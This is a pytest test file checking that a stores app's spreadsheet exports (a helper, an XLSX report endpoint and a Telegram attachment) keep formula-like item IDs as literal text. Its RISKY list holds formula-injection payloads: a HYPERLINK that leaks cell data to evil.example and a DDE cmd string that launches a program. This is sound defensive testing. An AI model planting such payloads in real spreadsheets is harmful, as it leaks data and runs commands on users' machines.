"""Spreadsheet cells never hold formulas, whatever text a user managed to store."""

from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from core.xlsx import safe_row
from stores.tests.factories import StockItemFactory, StoreFactory, UserFactory
from stores.tests.fake_telegram import FakeTelegram

RISKY = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
]


def _reread(workbook) -> object:
    buffer = BytesIO()
    workbook.save(buffer)
    return load_workbook(BytesIO(buffer.getvalue()))


def _assert_text_cells(cells, expected):
    for cell, value in zip(cells, expected, strict=True):
        assert cell.data_type == "s", (cell.coordinate, cell.value)
        assert cell.value == value  # the literal text, not a formula


@pytest.mark.parametrize("write_only", [False, True])
def test_safe_row_writes_risky_text_as_text(write_only):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("s")
    sheet.append(safe_row(sheet, [*RISKY, "plain", 5]))

    row = next(_reread(workbook)["s"].iter_rows())

    _assert_text_cells(row[: len(RISKY)], RISKY)
    assert (row[-2].value, row[-1].value) == ("plain", 5)


@pytest.mark.django_db
def test_stock_report_xlsx_writes_a_formula_like_item_id_as_text():
    store = StoreFactory(store_id="abc111")
    for item_id in RISKY[:4]:
        StockItemFactory(store=store, item_id=item_id, quantity=1)
    from core.testing import token_client

    response = token_client(UserFactory()).get("/stores/abc111/xlsx_report")

    sheet = load_workbook(BytesIO(response.content)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=5)]
    _assert_text_cells(cells, sorted(RISKY[:4]))


@pytest.mark.django_db
def test_telegram_attachment_writes_a_formula_like_item_id_as_text(settings):
    from stores import telegram

    store = StoreFactory(store_id="big")
    StockItemFactory(store=store, item_id=RISKY[0], quantity=1)
    for n in range(400):  # too long for a message: goes as a document
        StockItemFactory(store=store, item_id=f"item-with-a-long-name-{n:04}", quantity=n + 1)
    with FakeTelegram("1:T") as fake:
        settings.TELEGRAM_BOT_TOKEN, settings.TELEGRAM_API_URL = "1:T", fake.base_url
        settings.SPECIAL_USER = "42"
        assert telegram.send_stock_report() == "document"
        [sent] = fake.sends()

    sheet = load_workbook(BytesIO(sent["fields"]["document"]["content"]))["big"]
    [cell] = [row[0] for row in sheet.iter_rows(min_row=5) if row[0].value == RISKY[0]]
    assert cell.data_type == "s"
